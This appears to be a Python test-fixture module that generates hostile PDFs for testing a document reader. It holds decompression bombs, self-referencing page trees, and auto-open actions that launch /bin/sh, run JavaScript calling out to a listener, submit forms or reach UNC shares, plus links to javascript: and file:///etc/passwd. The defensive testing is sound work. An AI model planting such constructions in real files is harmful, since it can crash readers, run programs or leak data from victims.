"""Hostile PDFs: bytes, from the address at which somebody listens."""

from __future__ import annotations

import zlib

from tests.hostile.texts import MILLION, Make
from tests.reader.formats.pdf.pdf_making import WORDS, one_page, stream, written

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _paper(
    kids: bytes = b"[3 0 R]", catalogue: bytes = b"", page: bytes = b"", count: int = 1
) -> bytes:
    return written(
        [
            b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
            b"<</Type/Pages/Kids%s/Count %d>>" % (kids, count),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
            + page
            + b">>",
            stream(WORDS),
            _FONT,
        ]
    )


def _zeros(count: int, level: int) -> bytes:
    """Return so many million zeros, packed as often as `level` says."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * MILLION) for _ in range(count)) + packer.flush()
    for _ in range(level - 1):
        data = zlib.compress(data, 9)
    return data


def _packed(data: bytes, filters: bytes) -> bytes:
    return b"<</Length %d/Filter%s>>\nstream\n%s\nendstream" % (len(data), filters, data)


def _with_content(content: bytes) -> bytes:
    whole = one_page(b"FILLER")
    return whole.replace(stream(b"FILLER"), content)


def _acting(kind: str) -> Make:
    def make(where: str) -> bytes:
        return _paper(catalogue=b"/OpenAction<<" + kind.replace("WHERE", where).encode() + b">>")

    return make


def _endless_picture(_: str) -> bytes:
    entries = b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    picture = stream(bytes(5 * MILLION), entries)
    data = one_page(WORDS + b" q 300 0 0 300 9 9 cm /I Do Q", more=[picture])
    return data.replace(b"<</Font<</F 5 0 R>>>>", b"<</Font<</F 5 0 R>>/XObject<</I 6 0 R>>>>")


def _outer_stream(where: str) -> bytes:
    content = b"<</Length 0/F<</FS/URL/F(http://%s/x)>>>>\nstream\n\nendstream" % where.encode()
    return _with_content(content)


def _pages(count: int) -> bytes:
    return _paper(kids=b"[" + b"3 0 R " * count + b"]", count=count)


def _links(where: str) -> bytes:
    goals = (f"URI/URI(http://{where}/a)", "URI/URI(javascript:alert(1))", "URI/URI(file:///etc/passwd)", "Launch/F(/bin/sh)",
             f"GoToR/F(http://{where}/b.pdf)", f"SubmitForm/F(http://{where}/c)")  # fmt: skip
    notes = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[50 490 200 520]/A<</S/%s>>>>" % goal.encode()
        for goal in goals
    )
    return _paper(page=b"/Annots[" + notes + b"]")


PAPERS: dict[str, Make] = {
    "flate-bomb.pdf": lambda _: _with_content(_packed(_zeros(1_000, 1), b"/FlateDecode")),
    "flate-bomb-in-flate-bombs.pdf": lambda _: _with_content(_packed(_zeros(2_000, 3), b"[/FlateDecode/FlateDecode/FlateDecode]")),
    "run-length-bomb.pdf": lambda _: _with_content(_packed(zlib.compress(b"\x81 " * 4 * MILLION), b"[/FlateDecode/RunLengthDecode]")),
    "looping-page-tree.pdf": lambda _: _paper(kids=b"[2 0 R]", count=MILLION),
    "looping-page-tree-with-pages.pdf": lambda _: _paper(kids=b"[3 0 R 2 0 R]", count=3),
    "pages-without-end.pdf": lambda _: _pages(200_000),
    "pages-announced.pdf": lambda _: _paper(count=2_000_000_000),
    "page-of-itself.pdf": lambda _: _paper(page=b"/Parent 3 0 R"),
    "looping-outline.pdf": lambda _: _paper(catalogue=b"/Outlines<</First 1 0 R/Next 1 0 R>>"),
    "page-labels-of-themselves.pdf": lambda _: _paper(catalogue=b"/PageLabels<</Kids[1 0 R]>>"),
    "endless-page.pdf": lambda _: one_page(WORDS, b"/MediaBox[0 0 1e30 1e30]"),
    "endless-picture.pdf": _endless_picture,
    "states-in-states.pdf": lambda _: one_page(b"q " * 500_000 + WORDS),
    "lists-in-lists.pdf": lambda _: one_page(WORDS + b" [" * 500_000),
    "words-in-words.pdf": lambda _: _paper(catalogue=b"/X" + b"<</X" * 100_000),
    "lines-without-end.pdf": lambda _: one_page(b"BT /F 1 Tf 1 TL 50 500 Td (a) Tj" + b" T* (a) Tj" * 300_000 + b" ET"),
    "line-of-5-mb.pdf": lambda _: one_page(b"BT /F 9 Tf 50 500 Td (" + b"word " * MILLION + b") Tj ET"),
    "script-on-opening.pdf": _acting("/S/JavaScript/JS(app.launchURL\\('http://WHERE/s'\\))"),
    "program-on-opening.pdf": _acting("/S/Launch/F(/bin/sh)"),
    "address-on-opening.pdf": _acting("/S/URI/URI(http://WHERE/u)"),
    "form-on-opening.pdf": _acting("/S/SubmitForm/F(http://WHERE/f)"),
    "paper-on-opening.pdf": _acting("/S/GoToR/F(\\\\\\\\WHERE\\\\share\\\\p.pdf)"),
    "links.pdf": _links,
    "outer-stream.pdf": _outer_stream,
    "wrong-table.pdf": lambda _: one_page(WORDS).replace(b"0000000009", b"9999999999"),
    "table-of-itself.pdf": lambda _: _paper().replace(b"/Root", b"/Prev 9/Root"),
    "cut.pdf": lambda _: one_page(WORDS)[:300],
    "only-a-head.pdf": lambda _: b"%PDF-1.7\n" + b"\xff" * MILLION,
    "locked.pdf": lambda _: _paper().replace(b"/Root", b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O(x)/U(y)>>/Root"),
}  # fmt: skip
